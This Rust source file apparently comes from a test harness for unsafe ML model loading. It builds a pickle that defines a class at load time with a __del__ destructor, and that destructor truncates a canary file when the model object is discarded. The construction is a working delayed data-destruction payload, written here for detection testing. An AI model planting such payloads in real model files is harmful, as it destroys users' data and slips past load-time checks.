//! An object that acts when it is thrown away.

use super::*;

use crate::pickle::Op;

/// A class with `__del__`, made inside the pickle.
pub const ATTACK: Attack = Attack {
    id: "del-payload",
    title: "a payload in a destructor",
    summary: "The pickle makes a class by calling type, with a destructor that truncates a file, \
              and leaves an instance of it in the model. It acts when the model is thrown away, \
              long after loading.",
    severity: Severity::High,
    targets: Targets::Python(Loader::ALL),
    techniques: &[techniques::DATA_DESTRUCTION, techniques::UNSAFE_ML_ARTIFACTS],
    cwe: &[502],
    references: &[Reference {
        title: "Python documentation: object.__del__",
        url: "https://docs.python.org/3/reference/datamodel.html#object.__del__",
    }],
    build,
    expected: Expected::Effect {
        aquarium: &[Sign::Changed(CANARY)],
        policy: &[Evidence { kind: EventKind::FileChange, text: CANARY }],
    },
    quick: false,
};

fn build(scene: &Scene, target: Target) -> Result<Vec<u8>, BuildError> {
    let canary = scene.path(CANARY);
    payload::file(ATTACK.id, target, |assembler| {
        // type("ArrayCache", (), {"__del__": staticmethod(partial(truncate, canary, 0))})
        assembler.global("builtins", "type").text("ArrayCache").op(Op::EmptyTuple);
        assembler.op(Op::EmptyDict).text("__del__").global("builtins", "staticmethod");
        assembler.global("functools", "partial").global("posix", "truncate").text(&canary).int(0);
        assembler.op(Op::Tuple3).op(Op::Reduce).op(Op::Tuple1).op(Op::Reduce).op(Op::SetItem);
        assembler.op(Op::Tuple3).op(Op::Reduce);
        assembler.op(Op::EmptyTuple).op(Op::NewObj);
    })
}
